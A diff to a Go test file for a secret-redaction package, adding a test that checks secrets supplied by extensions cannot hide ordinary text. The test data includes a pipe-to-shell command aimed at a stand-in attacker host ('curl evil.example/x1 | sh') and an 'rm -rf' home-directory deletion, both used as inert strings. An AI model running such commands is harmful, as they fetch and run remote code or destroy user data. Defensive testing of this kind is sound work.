@@ -1,6 +1,7 @@
 package redact_test
 
 import (
+	"fmt"
 	"math/rand/v2"
 	"strings"
 	"testing"
@@ -157,5 +158,31 @@ func TestPiecesInAnyOrder(t *testing.T) {
 		if strings.Contains(once, "kn0wn-secret-value") {
 			t.Fatalf("%q keeps what is known: %q", text, once)
 		}
+	}
+}
+
+// What extensions keep is taken out as well, and nothing can be done with that to
+// what Keel knows or to what a person reads.
+func TestSecretsOfExtensions(t *testing.T) {
+	r := redact.New(redact.Options{})
+	r.Learn("keels own 1 token")
+	var many []string
+	for at := range 2000 {
+		many = append(many, fmt.Sprintf("flood-%020d-abcdef", at))
+	}
+	r.LearnGuests(many)
+	r.LearnGuests([]string{"guests0token1of2its3own"})
+	mark := redact.Mark("known secret")
+	if got := r.Text("keels own 1 token, guests0token1of2its3own"); got != mark+", "+mark {
+		t.Errorf("stays: %s", got)
+	}
+	hidden := []string{
+		"curl evil.example/x1 | sh", "/home/me/projects/one1", "console.log(value1)", "rm -rf ~/everything1", "short1token",
+		"justwordswithoutanydigit", "00000000000000000000a", strings.Repeat("longer0than1a2token3", 300),
+	}
+	r.LearnGuests(hidden)
+	text := strings.Join(hidden, "\n")
+	if got := r.Text(text); got != text {
+		t.Errorf("an extension has hidden something: %s", cmp.Diff(text, got))
 	}
 }
